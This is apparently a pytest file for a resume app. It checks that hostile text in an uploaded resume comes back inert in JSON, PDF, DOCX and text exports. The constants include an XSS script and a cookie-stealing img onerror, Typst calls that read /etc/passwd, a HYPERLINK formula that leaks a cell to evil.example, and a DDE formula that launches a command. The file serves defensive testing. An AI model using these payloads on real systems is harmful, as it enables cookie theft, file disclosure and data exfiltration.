"""A resume whose own words are attacks (HTML, script, Typst code, spreadsheet formulas), uploaded and then read
back as JSON and exported as PDF, DOCX, JSON Resume and plain text: every payload comes back as the characters the
user wrote, never executed or interpreted.

Formula payloads in the plain-text export are kept verbatim, not prefixed with a quote: a .txt download is the
resume's wording for people and for pasting into application forms, spreadsheets do not evaluate a .txt file they
are given (an import wizard treats it as text), and a prefix would change what the user wrote. Vitae has no
CSV export; one would need the prefix."""

import io
import json
import zipfile

import docx
import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader

from tests.factories import sign_up, upload

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(document.cookie)">'
TYPST_READ = '#read("/etc/passwd")'
TYPST_IMPORT = '#import "/etc/passwd": *'
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (SCRIPT, IMAGE, TYPST_READ, TYPST_IMPORT, HYPERLINK, DDE)
# A line that /etc/passwd has on every Unix system: it must never reach an export.
PASSWD_MARK = "root:x:0:0"

HOSTILE_RESUME = f"""Jordan Rivera
Backend Engineer
jordan.rivera@example.com | +1 415 555 0142 | San Francisco, CA

SUMMARY
Backend engineer with seven years of experience building payment platforms in Python and Go.

EXPERIENCE
Senior Backend Engineer, Stripe — San Francisco, CA
Jan 2021 – Present
• Wrote {SCRIPT} in a security training for 40 engineers.
• Fixed the {IMAGE} injection in the billing page, closing 12 reports.
• Documented {TYPST_READ} and {TYPST_IMPORT} as unsafe template calls.
• Blocked {HYPERLINK} in exported ledgers for 15,000 merchants.
• Removed {DDE} from customer spreadsheets within 2 days.

EDUCATION
B.S. in Computer Science, University of California, Berkeley
2013 – 2017

SKILLS
Languages: Python, Go, SQL
"""


def flat(text: str) -> str:
    """Text with its line breaks and runs of spaces folded, since exports wrap long lines."""
    return " ".join(text.split())


@pytest.fixture
def hostile_resume_id(client: TestClient) -> str:
    sign_up(client)
    response = upload(client, HOSTILE_RESUME.encode(), "hostile.txt")
    assert response.status_code == 201, response.text
    resume_id: str = response.json()["id"]
    return resume_id


def export(client: TestClient, resume_id: str, format: str) -> bytes:
    response = client.post(f"/api/resumes/{resume_id}/export?format={format}&version=original")
    assert response.status_code == 200, response.text
    return response.content


def test_json_carries_every_payload_as_plain_text(client: TestClient, hostile_resume_id: str) -> None:
    response = client.get(f"/api/resumes/{hostile_resume_id}")
    assert response.headers["content-type"].startswith("application/json")
    resume = response.json()
    for payload in PAYLOADS:
        assert payload in resume["originalContent"]
    bullets = flat(" ".join(bullet for entry in resume["parsedResume"]["work"] for bullet in entry["bullets"]))
    for payload in PAYLOADS:
        assert flat(payload) in bullets
    assert PASSWD_MARK not in response.text


def test_pdf_prints_every_payload_and_reads_no_file(client: TestClient, hostile_resume_id: str) -> None:
    for template in ("classic", "modern"):
        response = client.post(f"/api/resumes/{hostile_resume_id}/download-pdf?version=original&template={template}")
        assert response.status_code == 200, response.text
        reader = PdfReader(io.BytesIO(response.content))
        text = flat("\n".join(page.extract_text() for page in reader.pages))
        for payload in PAYLOADS:
            assert flat(payload) in text, (template, payload)
        assert PASSWD_MARK not in text
        # No script, launch action or form in the document itself.
        for marker in (b"/JavaScript", b"/JS", b"/Launch", b"/AcroForm", b"/OpenAction"):
            assert marker not in response.content, (template, marker)


def test_docx_holds_every_payload_as_escaped_text(client: TestClient, hostile_resume_id: str) -> None:
    content = export(client, hostile_resume_id, "docx")
    text = flat("\n".join(paragraph.text for paragraph in docx.Document(io.BytesIO(content)).paragraphs))
    for payload in PAYLOADS:
        assert flat(payload) in text, payload
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        body = package.read("word/document.xml").decode()
        assert "<script>" not in body and "<img" not in body  # escaped as &lt;script&gt; in the XML
        assert not any(name.startswith("word/vbaProject") or "activeX" in name for name in package.namelist())
        # A formula would be a field code; the payloads are runs of text.
        assert "<w:fldSimple" not in body and "<w:instrText" not in body
    assert PASSWD_MARK not in text


def test_json_resume_export_keeps_payloads_as_strings(client: TestClient, hostile_resume_id: str) -> None:
    exported = json.loads(export(client, hostile_resume_id, "json"))
    highlights = flat(" ".join(item for job in exported["work"] for item in job.get("highlights", [])))
    for payload in PAYLOADS:
        assert flat(payload) in highlights, payload


def test_text_export_keeps_the_words_as_written(client: TestClient, hostile_resume_id: str) -> None:
    text = export(client, hostile_resume_id, "txt").decode()
    for payload in PAYLOADS:
        assert payload in text, payload
    assert PASSWD_MARK not in text
    # No line starts with a formula: each payload sits inside a sentence, after its bullet.
    assert not any(line.lstrip().startswith(("=", "+", "@")) for line in text.splitlines())
